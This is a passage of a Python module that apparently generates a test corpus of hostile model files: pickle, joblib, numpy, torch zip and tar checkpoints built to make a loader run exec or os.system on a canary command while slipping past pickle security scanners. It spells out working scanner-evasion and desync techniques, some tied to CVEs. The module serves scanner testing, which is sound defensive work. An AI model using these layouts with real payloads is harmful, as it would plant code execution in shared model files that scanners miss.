            "a bz2-compressed pickle named .pkl, opened by joblib.load",
        )
    )
    return out


def _desync(c: str) -> list[Probe]:
    """joblib NumpyArrayWrapper layouts where a scanner's skip of the array bytes goes wrong."""
    t = "joblib-array-desync"
    src = "joblib/numpy_pickle.py NumpyUnpickler.load_build / NumpyArrayWrapper.read_array"
    # Bytes a scanner walks as opcodes if it does not skip them: a STOP, then an invalid opcode.
    decoy = NONE + STOP + b"\xff"
    # Our walk ends at the decoy; `I0x1` stops pickletools (picklescan) before the payload.
    hide = b"I0x1\n0"

    def outer(cls: bytes, dtype: bytes, shape: bytes, region: bytes, pid: str) -> bytes:
        return (
            proto(4)
            + cls
            + wrapper_state(dtype, shape)
            + BUILD
            + region
            + POP
            + hide
            + exec_call(canary(c, pid))
            + STOP
        )

    recon = call(
        sg("copyreg", "_reconstructor"),
        sg("joblib.numpy_pickle", "NumpyArrayWrapper"),
        sg("builtins", "object"),
        NONE,
    )
    elsize = dtype_call("V1", tuple_of(k(3), u("|"), NONE, NONE, NONE, k(24), k(1), k(0)))
    obj_field = dtype_call(
        "O8",
        tuple_of(k(3), u("|"), NONE, NONE, NONE, b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", k(63)),
    )
    hasobject = dtype_call(
        "V8",
        tuple_of(
            k(3),
            u("|"),
            NONE,
            tuple_of(u("a")),
            EMPTY_DICT + u("a") + tuple_of(obj_field, k(0)) + SETITEM,
            k(8),
            k(1),
            k(63),
        ),
    )
    nested = proto(4) + hide + exec_call(canary(c, "wrapper-void-hasobject")) + STOP
    fill = 512 - len(nested)
    nested_region = nested[:-1] + (NONE if fill % 2 else b"") + STOP + b"N0" * (fill // 2)
    skipped = (hide + exec_call(canary(c, "wrapper-nested-skip")) + POP).ljust(200, NONE)
    inner = (
        proto(4)
        + new_wrapper()
        + wrapper_state(dtype_call("u1"), ints(len(skipped)))
        + BUILD
        + skipped
        + STOP
    )
    return [
        Probe(
            "wrapper-dotted-class",
            t,
            "models/desync1.joblib",
            outer(
                new_wrapper("joblib", "numpy_pickle.NumpyArrayWrapper"),
                dtype_call("u1"),
                ints(3),
                decoy,
                "wrapper-dotted-class",
            ),
            "joblib",
            f"the wrapper class named 'joblib' + 'numpy_pickle.NumpyArrayWrapper': joblib "
            f"reads the array, a scanner matching the exact name walks it; {src}",
        ),
        Probe(
            "wrapper-reconstructor",
            t,
            "models/desync2.joblib",
            outer(recon, dtype_call("u1"), ints(3), decoy, "wrapper-reconstructor"),
            "joblib",
            f"the wrapper built by copyreg._reconstructor instead of NEWOBJ; {src}",
        ),
        Probe(
            "wrapper-lying-elsize",
            t,
            "models/desync3.joblib",
            outer(
                new_wrapper(),
                elsize,
                ints(3),
                b"\x00" * 3 + decoy + b"\xff" * 66,
                "wrapper-lying-elsize",
            ),
            "joblib",
            "dtype('V1') whose BUILD state sets itemsize 24 (numpy arraydescr_setstate): "
            f"joblib reads 72 bytes, the code string says 3; {src}",
        ),
        Probe(
            "wrapper-void-hasobject",
            t,
            "models/desync4.joblib",
            proto(4)
            + new_wrapper()
            + wrapper_state(hasobject, ints(64))
            + BUILD
            + nested_region
            + POP
            + NONE
            + STOP,
            "joblib",
            "dtype('V8') given an object field by its BUILD state: hasobject, so joblib "
            f"unpickles a nested stream where the code string says 512 raw bytes; {src}",
        ),
        Probe(
            "wrapper-nested-skip",
            t,
            "models/desync5.joblib",
            proto(4)
            + new_wrapper()
            + wrapper_state(obj_field, ints(1))
            + BUILD
            + inner
            + POP
            + NONE
            + STOP,
            "joblib",
            "an object array whose nested stream holds another wrapper: joblib's nested "
            "Unpickler is a plain pickle._Unpickler, so it never skips that wrapper's bytes "
            f"and runs them as opcodes; {src}",
        ),
        Probe(
            "wrapper-slotstate",
            t,
            "models/desync6.joblib",
            proto(4)
            + new_wrapper()
            + tuple_of(
                wrapper_state(dtype_call("u1"), ints(3)),
                EMPTY_DICT + u("numpy_array_alignment_bytes") + NONE + SETITEM,
            )
            + BUILD
            + b"\x01\x02\x03"
            + POP
            + exec_call(canary(c, "wrapper-slotstate"))
            + STOP,
            "joblib",
            "the wrapper state as a (dict, slotstate) pair (pickle load_build)",
        ),
        Probe(
            "wrapper-list-shape",
            t,
            "models/desync7.joblib",
            proto(4)
            + new_wrapper()
            + wrapper_state(dtype_call("u1"), b"]" + MARK + k(3) + b"e")
            + BUILD
            + b"\x01\x02\x03"
            + POP
            + exec_call(canary(c, "wrapper-list-shape"))
            + STOP,
            "joblib",
            "the wrapper shape as a list [3] (numpy accepts it)",
        ),
    ]


def _ndarray_wrappers(c: str) -> list[Probe]:
    t = "joblib-container"
    src = "joblib/numpy_pickle_compat.py NDArrayWrapper.read: np.load(..., allow_pickle=True)"

    def wrapper(filename: str) -> bytes:
        return (
            proto(2)
            + g("copyreg", "_reconstructor")
            + MARK
            + g("joblib.numpy_pickle_compat", "NDArrayWrapper")
            + g("builtins", "object")
            + NONE
            + TUPLE
            + REDUCE
            + EMPTY_DICT
            + MARK
            + binunicode("filename")
            + binunicode(filename)
            + binunicode("subclass")
            + g("numpy", "ndarray")
            + binunicode("allow_mmap")
            + NEWFALSE
            + SETITEMS
            + BUILD
            + STOP
        )

    npy = npy_bytes("'|O'", pickled(exec_call(canary(c, "ndarraywrapper-npy-sibling")), 3))
    vocab = pickled(system_call(canary(c, "ndarraywrapper-pickle-sibling")), 2)
    znpy = npy_bytes("'|O'", pickled(exec_call(canary(c, "zf-ndarraywrapper")), 3))
    return [
        Probe(
            "ndarraywrapper-npy-sibling",
            t,
            "legacy/model.pkl",
            wrapper("model.pkl_01.npy"),
            "joblib",
            f"the pickle names a sibling object-dtype .npy; {src}",
            siblings=(("legacy/model.pkl_01.npy", npy),),
        ),
        Probe(
            "ndarraywrapper-pickle-sibling",
            t,
            "legacy/encoder.pkl",
            wrapper("vocab.txt"),
            "joblib",
            f"the sibling is a plain pickle named vocab.txt (np.load falls back to "
            f"pickle.load); {src}",
            siblings=(("legacy/vocab.txt", vocab),),
        ),
        Probe(
            "zf-ndarraywrapper",
            t,
            "legacy/zmodel.pkl",
            zfile(wrapper("zmodel.pkl_01.npy")),
            "joblib",
            f"a ZF file whose NDArrayWrapper loads a sibling .npy; {src}",
            siblings=(("legacy/zmodel.pkl_01.npy", znpy),),
        ),
    ]


def _npy(c: str) -> list[Probe]:
    t = "npy-object-dtype"
    src = "numpy/lib/format.py descr_to_dtype + read_array (object arrays are pickles)"
    rows = [
        ("npy-descr-O", "'O'", 1),
        ("npy-descr-pipe-O", "'|O'", 1),
        ("npy-descr-object", "'object'", 1),
        ("npy-descr-O8", "'O8'", 1),
        ("npy-descr-list-field", "[('a', 'O')]", 1),
        ("npy-descr-nested-struct", "[('a', [('b', '|O')])]", 1),
        ("npy-descr-subarray-tuple", "('O', (2,))", 1),
        ("npy-descr-field-subarray", "[('a', 'O', (2,))]", 1),
        ("npy-descr-titled-field", "[(('title', 'a'), 'O')]", 1),
        ("npy-v2-header", "'|O'", 2),
        ("npy-v3-utf8-field", "[('\u00e9', 'O')]", 3),
    ]
    out = []
    for pid, descr, version in rows:
        body = pickled(exec_call(canary(c, pid)), 3)
        data = _npy_v3(descr, body) if version == 3 else npy_bytes(descr, body, version=version)
        out.append(Probe(pid, t, f"data/{pid}.npy", data, "numpy", f"descr {descr}; {src}"))
    member = npy_bytes("'|O'", pickled(exec_call(canary(c, "npz-object-member")), 3))
    out.append(
        Probe(
            "npz-object-member",
            t,
            "data/arrays.npz",
            zip_bytes([("arr_0.npy", member)], method=zipfile.ZIP_DEFLATED),
            "numpy",
            f"an .npz member with an object array; {src}",
        )
    )
    member = npy_bytes("'object'", pickled(exec_call(canary(c, "npz-member-no-suffix")), 3))
    out.append(
        Probe(
            "npz-member-no-suffix",
            t,
            "data/weights.npz",
            zip_bytes([("weights", member)]),
            "numpy",
            "an .npz member without .npy, descr 'object' (NpzFile keys by name)",
        )
    )
    return out


def _npy_v3(descr: str, body: bytes) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    pad = 64 - (12 + len(header) + 1) % 64
    text = header + b" " * pad + b"\n"
    return b"\x93NUMPY\x03\x00" + struct.pack("<I", len(text)) + text + body


def _zips(c: str) -> list[Probe]:
    t = "zip-tricks"

    def hostile(pid: str) -> bytes:
        return pickled(exec_call(canary(c, pid)), 2)

    benign = pickled(EMPTY_DICT, 2)
    out = [
        Probe(
            "torch-zip-plain",
            t,
            "ckpt/plain.pt",
            zip_bytes(torch_zip(hostile("torch-zip-plain"))),
            "torch-style",
            "torch.save's zip layout with a hostile data.pkl",
        ),
        Probe(
            "torch-zip-other-folder",
            t,
            "ckpt/folder.pt",
            zip_bytes(torch_zip(hostile("torch-zip-other-folder"), "resnet50_epoch9")),
            "torch-style",
            "the archive folder is whatever the first entry says "
            "(inline_container.cc archive_name_)",
        ),
        Probe(
            "zip-trailing-bytes",
            t,
            "ckpt/trailing.pt",
            zip_bytes(torch_zip(hostile("zip-trailing-bytes"))) + b"\x00" * 100,
            "zipfile+pickle",
            "bytes after the end record (Lib/zipfile.py _EndRecData searches "
            "back for the signature)",
            member="archive/data.pkl",
        ),
        Probe(
            "zip-duplicate-last",
            t,
            "ckpt/dup.pt",
            zip_bytes(
                [("archive/data.pkl", benign), ("archive/data.pkl", hostile("zip-duplicate-last"))]
                + torch_zip(benign)[1:]
            ),
            "zipfile+pickle",
            "two data.pkl entries: zipfile reads the last (CVE-2025-1944 family, Sonatype)",
            member="archive/data.pkl",
        ),
        Probe(
            "zip-junk-prefix",
            t,
            "ckpt/sfx.pt",
            zip_bytes(
                torch_zip(hostile("zip-junk-prefix")), prefix=b"#!/bin/sh\nexit 0\n" + b"\x00" * 300
            ),
            "zipfile+pickle",
            "self-extracting style prefix (zipfile's concat offset)",
            member="archive/data.pkl",
        ),
        Probe(
            "zip-bzip2-member",
            t,
            "ckpt/bz.pt",
            zip_bytes(torch_zip(hostile("zip-bzip2-member")), method=zipfile.ZIP_BZIP2),
            "zipfile+pickle",
            "data.pkl compressed with bzip2 (method 12)",
            member="archive/data.pkl",
        ),
        Probe(
            "zip-lzma-member",
            t,
            "ckpt/lzma.pt",
            zip_bytes(torch_zip(hostile("zip-lzma-member")), method=zipfile.ZIP_LZMA),
            "zipfile+pickle",
            "data.pkl compressed with lzma (method 14)",
            member="archive/data.pkl",
        ),
    ]
    body, cd, eocd = raw_zip(
        [
            ("archive/data.pkx", "archive/data.pkl", hostile("zip-name-mismatch")),
            ("archive/version", "archive/version", b"3\n"),
        ]
    )
    out.append(
        Probe(
            "zip-name-mismatch",
            t,
            "ckpt/mismatch.pt",
            body + cd + eocd,
            "torch-style",
            "local header name differs from the central one: miniz never compares "
            "them, Lib/zipfile.py refuses",
        )
    )
    body, cd, eocd = raw_zip(
        [
            ("archive/data.pkl", "archive/data.pkl", hostile("zip-data-descriptor")),
            ("archive/version", "archive/version", b"3\n"),
        ],
        descriptor=True,
    )
    out.append(
        Probe(
            "zip-data-descriptor",
            t,
            "ckpt/descriptor.pt",
            body + cd + eocd,
            "torch-style",
            "sizes and CRC only in data descriptors (flag bit 3)",
        )
    )
    body, cd, eocd = raw_zip(
        [
            ("archive/data.pkl", "archive/data.pkl", hostile("zip-encrypted-flag-local")),
            ("archive/version", "archive/version", b"3\n"),
        ],
        local_flags=0x1,
    )
    out.append(
        Probe(
            "zip-encrypted-flag-local",
            t,
            "ckpt/encflag.pt",
            body + cd + eocd,
            "zipfile+pickle",
            "encrypted bit set in the local header only "
            "(CVE-2025-1945, flag bits; zipfile reads the central flags)",
            member="archive/data.pkl",
        )
    )
    data = hostile("zip-bad-crc")
    body, cd, eocd = raw_zip(
        [
            ("archive/data.pkl", "archive/data.pkl", data),
            ("archive/version", "archive/version", b"3\n"),
        ]
    )
    crc = struct.pack("<I", zlib.crc32(data))
    bad = struct.pack("<I", zlib.crc32(data) ^ 0xFFFFFFFF)
    out.append(
        Probe(
            "zip-bad-crc",
            t,
            "ckpt/badcrc.pt",
            (body + cd).replace(crc, bad) + eocd,
            "torch-style",
            "a wrong CRC-32: torch builds miniz with MINIZ_DISABLE_ZIP_READER_CRC32_CHECKS "
            "(cmake/Dependencies.cmake); CVE-2025-10156",
        )
    )
    out.append(
        Probe(
            "zip64-end-records",
            t,
            "ckpt/zip64.pt",
            _zip64(zip_bytes(torch_zip(hostile("zip64-end-records")))),
            "zipfile+pickle",
            "zip64 end record and locator (APPNOTE 4.3.14-15)",
            member="archive/data.pkl",
        )
    )
    out.append(
        Probe(
            "zip-comment-fake-eocd",
            t,
            "ckpt/comment.pt",
            _fake_eocd(benign, hostile("zip-comment-fake-eocd")),
            "zipfile+pickle",
            "a second end record inside the archive comment, followed by one byte: "
            "zipfile takes the last signature, a parser demanding the comment reach "
            "the end takes the first",
            member="archive/data.pkl",
        )
    )
    return out


def _zip64(plain: bytes) -> bytes:
    """`plain` with its end record replaced by zip64 end record + locator + a 0xFFFF record."""
    eocd_at = plain.rfind(b"PK\x05\x06")
    (_, _, _, _, count, cd_size, cd_offset, _) = struct.unpack(
        "<4sHHHHIIH", plain[eocd_at : eocd_at + 22]
    )
    rec64 = struct.pack(
        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, cd_size, cd_offset
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, eocd_at, 1)
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return plain[:eocd_at] + rec64 + locator + eocd


def _fake_eocd(benign: bytes, hostile: bytes) -> bytes:
    body, cd, _ = raw_zip(
        [
            ("archive/data.pkl", "archive/data.pkl", benign),
            ("archive/data.pkl", "archive/data.pkl", hostile),
        ]
    )
    first = 46 + len("archive/data.pkl")
    cd_a, cd_b = cd[:first], cd[first:]
    tail_len = len(cd_b) + 22 + 1
    real = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(cd_a), len(body), tail_len)
    fake_at = len(body) + len(cd_a) + 22 + len(cd_b)
    fake = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(cd_b), fake_at - len(cd_b), 0)
    return body + cd_a + real + cd_b + fake + b"X"


def _torch(c: str) -> list[Probe]:
    t = "torch-gadgets"

    def nested(pid: str) -> bytes:
        inner = pickled(system_call(canary(c, pid)), 2)
        return b"B" + struct.pack("<I", len(inner)) + inner

    def zipped(data_pkl: bytes) -> bytes:
        return zip_bytes(torch_zip(data_pkl))

    return [
        Probe(
            "torch-load-from-bytes",
            t,
            "ckpt/frombytes.pt",
            zipped(
                proto(2)
                + g("torch.storage", "_load_from_bytes")
                + MARK
                + nested("torch-load-from-bytes")
                + TUPLE
                + REDUCE
                + STOP
            ),
            "torch-style",
            "torch.storage._load_from_bytes(b) = torch.load(BytesIO(b)) on a nested pickle "
            "(torch/storage.py)",
        ),
        Probe(
            "torch-rebuild-from-type-exec",
            t,
            "ckpt/rebuild1.pt",
            zipped(
                proto(2)
                + g("torch._tensor", "_rebuild_from_type_v2")
                + MARK
                + g("builtins", "exec")
                + NONE
                + tuple_of(binunicode(exec_code(canary(c, "torch-rebuild-from-type-exec"))))
                + NONE
                + TUPLE
                + REDUCE
                + STOP
            ),
            "torch-style",
            "_rebuild_from_type_v2(func=exec, ...) calls func(*args) first (torch/_tensor.py)",
        ),
        Probe(
            "torch-rebuild-from-type-frombytes",
            t,
            "ckpt/rebuild2.pt",
            zipped(
                proto(2)
                + g("torch._tensor", "_rebuild_from_type_v2")
                + MARK
                + g("torch.storage", "_load_from_bytes")
                + NONE
                + tuple_of(nested("torch-rebuild-from-type-frombytes"))
                + NONE
                + TUPLE
                + REDUCE
                + STOP
            ),
            "torch-style",
            "_rebuild_from_type_v2 calling _load_from_bytes: two allow-listed-looking names",
        ),
        Probe(
            "torch-serialization-load",
            t,
            "ckpt/chain.pt",
            zipped(
                proto(2)
                + g("torch.serialization", "load")
                + MARK
                + binunicode("ckpt/extra_state.bin")
                + TUPLE
                + REDUCE
                + STOP
            ),
            "torch-style",
            "torch.serialization.load of another file of the repository",
            siblings=(
                (
                    "ckpt/extra_state.bin",
                    pickled(system_call(canary(c, "torch-serialization-load")), 2),
                ),
            ),
        ),
    ]


def _tar(c: str) -> list[Probe]:
    t = "torch-legacy-tar"
    src = "torch/serialization.py _legacy_load.legacy_load: storages, tensors, pickle members"
    zero = pickled(k(0), 2)
    empty = pickled(b"]", 2)

    def payload(pid: str) -> bytes:
        return pickled(system_call(canary(c, pid)), 2)

    info = pickled(EMPTY_DICT, 2)
    return [
        Probe(
            "tar-pickle-member",
            t,
            "ckpt/tar1.pt",
            tar_bytes(
                [
                    ("sys_info", info),
                    ("pickle", payload("tar-pickle-member")),
                    ("tensors", zero),
                    ("storages", zero + empty),
                ]
            ),
            "torch-tar",
            f"the object pickle of a legacy tar checkpoint; {src}",
        ),
        Probe(
            "tar-storages-member",
            t,
            "ckpt/tar2.pt",
            tar_bytes(
                [
                    ("sys_info", info),
                    ("pickle", info),
                    ("tensors", zero),
                    ("storages", payload("tar-storages-member")),
                ]
            ),
            "torch-tar",
            f"the storages member, unpickled first; {src}",
        ),
        Probe(
            "tar-tensors-member",
            t,
            "ckpt/tar3.tar",
            tar_bytes(
                [
                    ("sys_info", info),
                    ("pickle", info),
                    ("tensors", text_system(canary(c, "tar-tensors-member"))),
                    ("storages", zero + empty),
                ]
            ),
            "torch-tar",
            f"a protocol 0 tensors member; {src}",
        ),
    ]


def _extensions(c: str) -> list[Probe]:
    t = "extension-codes"
    src = "copyreg.add_extension in the loading process; Lib/pickle.py load_ext1/2/4"

    def cmd(pid: str) -> bytes:
        return binunicode(f"touch {canary(c, pid)}")

    return [
        Probe(
            "ext1-posix-system",
            t,
            "models/ext1.pkl",
            proto(2) + b"\x82\x42" + MARK + cmd("ext1-posix-system") + TUPLE + REDUCE + STOP,
            "pickle",
            f"EXT1 66; {src}",
            extension="posix:system:66",
        ),
        Probe(
            "ext2-builtins-exec",
            t,
            "models/ext2.pkl",
            proto(2)
            + b"\x83"
            + struct.pack("<H", 4660)
            + MARK
            + binunicode(exec_code(canary(c, "ext2-builtins-exec")))
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            f"EXT2 4660; {src}",
            extension="builtins:exec:4660",
        ),
        Probe(
            "ext4-os-system",
            t,
            "models/ext4.pkl",
            proto(2)
            + b"\x84"
            + struct.pack("<i", 19088743)
            + MARK
            + cmd("ext4-os-system")
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            f"EXT4 19088743; {src}",
            extension="os:system:19088743",
        ),
    ]


#: Opcodes before the payload in the opcode-cap probe (limits.MAX_PICKLE_OPCODES is 2,000,000).
CAP_OPCODES = 2_000_100


def _exhaustion(c: str) -> list[Probe]:
    t = "parser-exhaustion"
    long_name = "path." + "os.path." * 9000 + "os.system"
    return [
        Probe(
            "opcode-cap",
            t,
            "models/huge.pkl",
            proto(4) + NONE * CAP_OPCODES + system_call(canary(c, "opcode-cap")) + STOP,
            "pickle",
            "two million NONE opcodes before the payload: past a scanner's opcode "
            "cap, nothing for CPython",
        ),
        Probe(
            "deep-marks",
            t,
            "models/marks.pkl",
            proto(4) + MARK * 50_000 + exec_call(canary(c, "deep-marks")) + STOP,
            "pickle",
            "50,000 open MARKs around the payload",
        ),
        Probe(
            "long-dotted-name",
            t,
            "models/longname.pkl",
            proto(4)
            + sg("os", long_name)
            + MARK
            + u(f"touch {canary(c, 'long-dotted-name')}")
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            "a 72 KB dotted name os.path.os.path....system (longer than a scanner's argument cap)",
        ),
    ]


def build_corpus(canary_dir: str = ".") -> list[Probe]:
    """Every probe; canaries are created under `canary_dir` (relative to the loader's cwd)."""
    probes: list[Probe] = []
    for part in (
        _protocols,
        _memo,
        _dotted,
        _integers,
        _streams,
        _leading,
        _text_names,
        _joblib_files,
        _desync,
        _ndarray_wrappers,
        _npy,
        _zips,
        _torch,
        _tar,
        _extensions,
        _exhaustion,
    ):
        probes.extend(part(canary_dir))
    return probes
